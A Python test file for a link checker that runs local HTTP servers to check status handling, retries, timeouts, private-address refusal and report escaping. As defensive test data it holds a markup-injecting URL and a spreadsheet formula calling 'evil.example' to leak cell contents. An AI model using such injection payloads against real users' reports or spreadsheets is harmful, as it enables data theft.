"""geo/linkcheck.py against servers on 127.0.0.1: one HTTP server that answers 200, 301, 404,
503 then 200, 405 to HEAD only, or not in time; a TCP server that speaks garbage; and an
https:// URL to the plain-HTTP port (a TLS handshake that fails). No request leaves the machine.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import os
import socket
import socketserver
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from geo import linkcheck
from geo.config import PROJECT_ROOT
from geo.linkcheck import Link, Outcome, Place, Policy
from tests.support.run import run_module

FIXTURES = Path(__file__).resolve().parent / "fixtures"
TIMEOUT = 0.4
# The test servers are on 127.0.0.1, which the checker refuses by default (see the tests of
# refused addresses below): these tests allow the loopback, and only it.
LOCAL = linkcheck.loopback_too
POLICY = Policy(timeout=TIMEOUT, retries=1, backoff=0.02, pause=0.0, hosts_at_once=4, allow=LOCAL)
SLOW_SECONDS = 5 * TIMEOUT  # the "slow" path answers long after the client gave up
TRICKLE_GAP = TIMEOUT / 4  # the "trickle" path: one byte per gap, never a read timeout


class Handler(BaseHTTPRequestHandler):
    server: Server

    def log_message(self, format: str, *args: object) -> None:  # quiet test output
        return

    def _answer(self, status: int, headers: dict[str, str] | None = None) -> None:
        body = b"" if self.command == "HEAD" else b"hello"
        self.send_response(status)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _leave(self) -> None:
        """Count this request out of the ones in flight, once."""
        with self.server.lock:
            if not getattr(self, "left", False):
                self.left = True
                self.server.in_flight -= 1

    def _route(self) -> None:
        with self.server.lock:
            self.server.requests.append((self.command, self.path))
            self.server.in_flight += 1
            self.server.most_in_flight = max(self.server.most_in_flight, self.server.in_flight)
            seen = Counter(path for _, path in self.server.requests)[self.path]
        try:
            if self.path == "/ok":
                self._answer(200)
            elif self.path == "/moved":
                self._answer(301, {"Location": "/ok"})
            elif self.path == "/gone":
                self._answer(404)
            elif self.path == "/flaky":
                self._answer(503 if seen <= 2 else 200)
            elif self.path == "/down":
                self._answer(503)
            elif self.path == "/no-head":
                self._answer(405 if self.command == "HEAD" else 200)
            elif self.path.startswith("/slow"):
                self.server.release.wait(SLOW_SECONDS)
                self._answer(200)
            elif self.path == "/trickle":
                self._trickle()
            elif self.path == "/long-reason":
                self.send_response(404, "x" * 60_000)
                self.send_header("Location", "/" + "y" * 60_000)
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif self.path.startswith("/busy"):
                time.sleep(0.05)
                # Out before the answer: once the client has it, it may ask again before this
                # thread would reach `finally` (counted as two at once: seen in a CI run).
                self._leave()
                self._answer(200)
            else:
                self._answer(500)
        finally:
            self._leave()

    def _trickle(self) -> None:
        """A status line and headers one byte at a time, each well within the read timeout."""
        for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"z" * 200:
            if self.server.release.is_set():
                return
            self.wfile.write(bytes([byte]))
            self.wfile.flush()
            time.sleep(TRICKLE_GAP)

    do_GET = _route
    do_HEAD = _route


class Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.lock = threading.Lock()
        self.release = threading.Event()
        self.requests: list[tuple[str, str]] = []
        self.in_flight = 0
        self.most_in_flight = 0


class Garbage(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.sendall(b"\x00\x01 not HTTP at all\r\n\r\n")
        self.request.shutdown(socket.SHUT_RDWR)


class GarbageServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    httpd = Server()
    thread = threading.Thread(target=httpd.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield httpd
    httpd.release.set()
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture
def garbage() -> Iterator[str]:
    tcp = GarbageServer(("127.0.0.1", 0), Garbage)
    thread = threading.Thread(target=tcp.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{tcp.server_address[1]}/"
    tcp.shutdown()
    tcp.server_close()


def base(server: Server) -> str:
    return f"http://127.0.0.1:{server.server_address[1]}"


def link(url: str) -> Link:
    return Link(url, (Place("data/events.csv", 2, "source_url"),))


def check(url: str, policy: Policy = POLICY) -> Outcome:
    return linkcheck.check_link(linkcheck.make_opener(LOCAL), link(url), policy)


def test_200_is_ok_from_one_head_request(server: Server) -> None:
    outcome = check(base(server) + "/ok")
    assert (outcome.result, outcome.status, outcome.method, outcome.attempts) == (
        "ok", 200, "HEAD", 1,
    )  # fmt: skip
    assert server.requests == [("HEAD", "/ok")]


def test_301_is_moved_with_the_new_address_and_is_not_followed(server: Server) -> None:
    outcome = check(base(server) + "/moved")
    assert (outcome.result, outcome.status) == ("moved", 301)
    assert outcome.location == base(server) + "/ok"  # the relative Location, made absolute
    assert server.requests == [("HEAD", "/moved")]


def test_404_is_dead_after_a_get_confirms_it(server: Server) -> None:
    outcome = check(base(server) + "/gone")
    assert (outcome.result, outcome.status, outcome.method) == ("dead", 404, "GET")
    assert outcome.attempts == 1, "a 404 is not retried"
    assert server.requests == [("HEAD", "/gone"), ("GET", "/gone")]


def test_a_server_refusing_head_is_asked_with_get(server: Server) -> None:
    outcome = check(base(server) + "/no-head")
    assert (outcome.result, outcome.status, outcome.method) == ("ok", 200, "GET")


def test_a_passing_503_is_retried_after_a_backoff(server: Server) -> None:
    slept: list[float] = []
    outcome = linkcheck.check_link(
        linkcheck.make_opener(LOCAL), link(base(server) + "/flaky"), POLICY, slept.append
    )
    assert (outcome.result, outcome.status, outcome.attempts) == ("ok", 200, 2)
    # HEAD and GET both meet the 503; after the backoff, HEAD finds the page back.
    assert server.requests == [("HEAD", "/flaky"), ("GET", "/flaky"), ("HEAD", "/flaky")]
    assert [s for s in slept if s] == [POLICY.backoff]


def test_a_lasting_503_is_dead_after_every_retry_with_doubling_backoff(server: Server) -> None:
    slept: list[float] = []
    policy = Policy(timeout=TIMEOUT, retries=2, backoff=0.01, pause=0.0, allow=LOCAL)
    outcome = linkcheck.check_link(
        linkcheck.make_opener(LOCAL), link(base(server) + "/down"), policy, slept.append
    )
    assert (outcome.result, outcome.status, outcome.attempts) == ("dead", 503, 3)
    assert len(server.requests) == 6  # HEAD and GET on each attempt
    assert [s for s in slept if s] == [0.01, 0.02]  # pauses are 0 here


def test_a_server_that_does_not_answer_in_time_is_an_error_timeout(server: Server) -> None:
    start = time.monotonic()
    outcome = check(base(server) + "/slow")
    elapsed = time.monotonic() - start
    assert (outcome.result, outcome.detail, outcome.status) == ("error", "timeout", None)
    assert outcome.attempts == POLICY.retries + 1
    assert elapsed < SLOW_SECONDS, "the client waited for the server instead of timing out"


def test_https_to_a_plain_http_port_is_a_tls_error(server: Server) -> None:
    outcome = check(f"https://127.0.0.1:{server.server_address[1]}/ok")
    assert outcome.result == "error"
    assert outcome.detail.startswith("TLS failure"), outcome.detail
    assert outcome.attempts == 1, "a TLS failure is not retried"


def test_garbage_instead_of_http_is_an_error(garbage: str) -> None:
    outcome = check(garbage)
    assert outcome.result == "error"
    assert outcome.detail.startswith("no valid HTTP answer"), outcome.detail
    assert outcome.status is None


def test_a_closed_port_is_a_refused_connection() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # bound but not listening: connections are refused
        outcome = check(f"http://127.0.0.1:{port}/")
    assert (outcome.result, outcome.detail) == ("error", "connection refused")


def test_one_request_at_a_time_per_host(server: Server) -> None:
    links = [link(f"{base(server)}/busy/{n}") for n in range(6)]
    outcomes = linkcheck.check_links(
        links, Policy(timeout=2, pause=0.0, hosts_at_once=6, allow=LOCAL)
    )
    assert [o.url for o in outcomes] == [lk.url for lk in links]
    assert {o.result for o in outcomes} == {"ok"}
    assert len(server.requests) == 6
    assert server.most_in_flight == 1


def test_urls_are_collected_once_each_with_every_place(tmp_path: Path) -> None:
    (tmp_path / "events.csv").write_text(
        "id,source_url,read_url,note\n"
        "a,https://example.org/a,https://copy.example/a,x\n"
        "b,https://example.org/a,,y\n"
        'c,"https://example.org/c",mailto:someone@example.org,z\n',
        encoding="utf-8",
    )
    (tmp_path / "quotes.csv").write_text(
        "id,source_url\nq,https://example.org/c\n", encoding="utf-8"
    )
    links = linkcheck.collect_links(tmp_path)
    shown = {lk.url: [(Path(p.path).name, p.line, p.field) for p in lk.places] for lk in links}
    assert shown == {
        "https://example.org/a": [("events.csv", 2, "source_url"), ("events.csv", 3, "source_url")],
        "https://copy.example/a": [("events.csv", 2, "read_url")],
        "https://example.org/c": [("events.csv", 4, "source_url"), ("quotes.csv", 2, "source_url")],
    }


def test_the_real_data_has_urls_in_every_url_file() -> None:
    links = linkcheck.collect_links(Path(__file__).resolve().parent.parent / "data")
    files = {Path(p.path).name for lk in links for p in lk.places}
    assert files == set(linkcheck.URL_FILES)
    assert len(links) > 100
    assert all(lk.url.startswith(("http://", "https://")) for lk in links)


HOSTILE_URL = "https://example.org/a|b`c`<img src=x>"


def test_reports_show_data_literally_and_agree_with_each_other(tmp_path: Path) -> None:
    outcomes = [
        Outcome(HOSTILE_URL, "dead", "HTTP 404 Not Found", 404, "", "GET", 1, (link("x").places)),
        Outcome("https://a.example/", "moved", "HTTP 301", 301, "https://b.example/", "HEAD", 1),
        Outcome("https://c.example/", "error", "timeout", None, "", "HEAD", 3),
        Outcome("https://d.example/", "ok", "HTTP 200 OK", 200, "", "HEAD", 1),
    ]
    when = datetime(2026, 1, 5, 6, 0, tzinfo=UTC)
    paths = linkcheck.write_reports(outcomes, tmp_path / "out", when)
    assert [p.name for p in paths] == list(linkcheck.REPORT_FILES)
    markdown, document, table = (p.read_text(encoding="utf-8") for p in paths)

    assert "1 dead, 1 error, 0 refused, 1 moved, 1 ok" in markdown
    row = next(line for line in markdown.splitlines() if "a\\|b" in line)
    # In a code span longer than the URL's own backticks, with the table pipe escaped.
    assert row.startswith("| ``https://example.org/a\\|b`c`<img src=x>`` |"), row
    assert "https://b.example/" in markdown and "https://d.example/" not in markdown

    data = json.loads(document)
    assert data["counts"] == {"dead": 1, "error": 1, "refused": 0, "moved": 1, "ok": 1}
    assert [r["url"] for r in data["links"]] == [o.url for o in outcomes]
    assert data["links"][0]["places"] == [
        {"path": "data/events.csv", "line": 2, "field": "source_url"}
    ]
    rows = list(csv.DictReader(io.StringIO(table)))
    assert [(r["url"], r["result"], r["status"]) for r in rows] == [
        (o.url, o.result, "" if o.status is None else str(o.status)) for o in outcomes
    ]
    assert rows[0]["where"] == "data/events.csv:2 source_url"


@pytest.mark.server
def test_command_writes_the_reports_and_fails_only_for_dead_links(
    server: Server, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    ok, moved, gone = (base(server) + p for p in ("/ok", "/moved", "/gone"))
    (data / "events.csv").write_text(
        f"id,source_url,read_url\ne1,{ok},{moved}\ne2,{gone},\n", encoding="utf-8"
    )
    out = tmp_path / "report"
    args = ("--out", str(out), "--timeout", "2", "--pause", "0", "--allow-loopback", str(data))
    result = run_module("geo.linkcheck", *args, env={"NO_PROXY": "127.0.0.1,localhost"})
    assert result.returncode == 1, result.stderr
    assert result.stdout.splitlines()[0] == "1 dead, 0 error, 0 refused, 1 moved, 1 ok"
    assert sorted(p.name for p in out.iterdir()) == sorted(linkcheck.REPORT_FILES)
    assert (data / "events.csv").read_text(encoding="utf-8").count(gone) == 1  # never edited

    (data / "events.csv").write_text(f"id,source_url\ne1,{ok}\n", encoding="utf-8")
    assert run_module("geo.linkcheck", *args, env={"NO_PROXY": "127.0.0.1"}).returncode == 0
    bad = run_module("geo.linkcheck", "--timeout", "0", str(data))
    assert bad.returncode == 2


# --- issue 23: refused addresses, deadlines, a budget, partial reports, caps -------------------


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:{port}/ok", "http://localhost:{port}/ok", "http://[::1]:{port}/ok",
     "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://192.168.1.1/",
     "http://100.64.0.1/", "http://[::ffff:127.0.0.1]:{port}/ok", "https://0.0.0.0/",
     "http://[fe80::1]/"],
)  # fmt: skip
def test_an_address_off_the_public_internet_is_refused_and_never_requested(
    server: Server, url: str
) -> None:
    target = url.format(port=server.server_address[1])
    outcome = linkcheck.check_link(
        linkcheck.make_opener(), link(target), Policy(timeout=TIMEOUT, retries=2, pause=0.0)
    )
    assert outcome.result == "refused", outcome
    assert outcome.detail.startswith("refused: ") and "not a public address" in outcome.detail
    assert (outcome.attempts, outcome.method, outcome.status) == (1, "HEAD", None)
    assert server.requests == []


def test_the_default_policy_refuses_the_loopback() -> None:
    assert Policy().allow is linkcheck.global_only
    for text in ("127.0.0.1", "::1", "169.254.169.254", "10.1.2.3", "fd00::1"):
        assert not linkcheck.global_only(ipaddress.ip_address(text)), text
    assert linkcheck.global_only(ipaddress.ip_address("93.184.216.34"))


def test_a_server_trickling_bytes_is_cut_at_the_request_s_deadline(server: Server) -> None:
    policy = replace(POLICY, retries=0, deadline=4 * TIMEOUT)
    start = time.monotonic()
    outcome = check(base(server) + "/trickle", policy)
    elapsed = time.monotonic() - start
    assert outcome.result == "error"
    assert outcome.detail == f"timeout (no full answer within {policy.deadline:g} s)"
    assert elapsed < policy.deadline + 1.5, elapsed  # 200 bytes would take 20 s


def test_the_run_s_budget_stops_it_and_names_what_was_not_checked(server: Server) -> None:
    links = [link(f"{base(server)}/slow?{n}") for n in range(6)]
    policy = replace(POLICY, retries=0, budget=3 * TIMEOUT)
    start = time.monotonic()
    outcomes = linkcheck.check_links(links, policy)
    elapsed = time.monotonic() - start
    assert elapsed < policy.budget + 1.5, elapsed  # six slow links alone take 6 timeouts
    assert [o.url for o in outcomes] == [lk.url for lk in links]
    skipped = [o for o in outcomes if o.detail.startswith("not checked: the run's budget")]
    assert skipped and all(o.attempts == 0 for o in skipped)


def test_reason_phrases_and_locations_are_capped(server: Server) -> None:
    outcome = check(base(server) + "/long-reason")
    assert outcome.result == "dead"
    assert len(outcome.detail) <= len("HTTP 404 ") + 200, len(outcome.detail)
    assert outcome.detail.endswith("\u2026")
    redirect = linkcheck._from_status("https://a.example/", 301, "Moved", "/" + "y" * 60_000)
    assert len(redirect.location) == 200 and redirect.location.endswith("\u2026")


@pytest.mark.server
def test_a_killed_run_leaves_a_partial_report(server: Server, tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    urls = [base(server) + "/ok", base(server) + "/trickle"]
    rows = "".join(f"e{n},{url}\n" for n, url in enumerate(urls))
    (data / "events.csv").write_text("id,source_url\n" + rows, encoding="utf-8")
    out = tmp_path / "report"
    command = [sys.executable, "-m", "geo.linkcheck", "--out", str(out), "--pause", "0",
               "--timeout", "2", "--deadline", "60", "--allow-loopback", str(data)]  # fmt: skip
    env = {**os.environ, "NO_PROXY": "127.0.0.1"}
    run = subprocess.Popen(command, cwd=PROJECT_ROOT, env=env, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)  # fmt: skip
    table = out / "linkcheck.csv"
    try:
        give_up = time.monotonic() + 20
        while time.monotonic() < give_up:
            if table.is_file() and len(table.read_text("utf-8").splitlines()) >= 2:
                break
            time.sleep(0.05)
    finally:
        run.kill()
        run.wait(10)
    rows_found = list(csv.DictReader(io.StringIO(table.read_text("utf-8"))))
    assert [(r["url"], r["result"]) for r in rows_found] == [(urls[0], "ok")]
    assert "Not finished" in (out / "linkcheck.md").read_text("utf-8")


def test_a_formula_from_a_server_is_neutralised_in_the_csv(tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://evil.example/?x="&A1)'
    outcomes = [Outcome("https://a.example/", "dead", evil, 404, "@x", "GET", 1)]
    paths = linkcheck.write_reports(outcomes, tmp_path, datetime(2026, 1, 5, tzinfo=UTC))
    row = next(csv.DictReader(io.StringIO(paths[2].read_text("utf-8"))))
    assert (row["detail"], row["location"]) == ("'" + evil, "'@x")
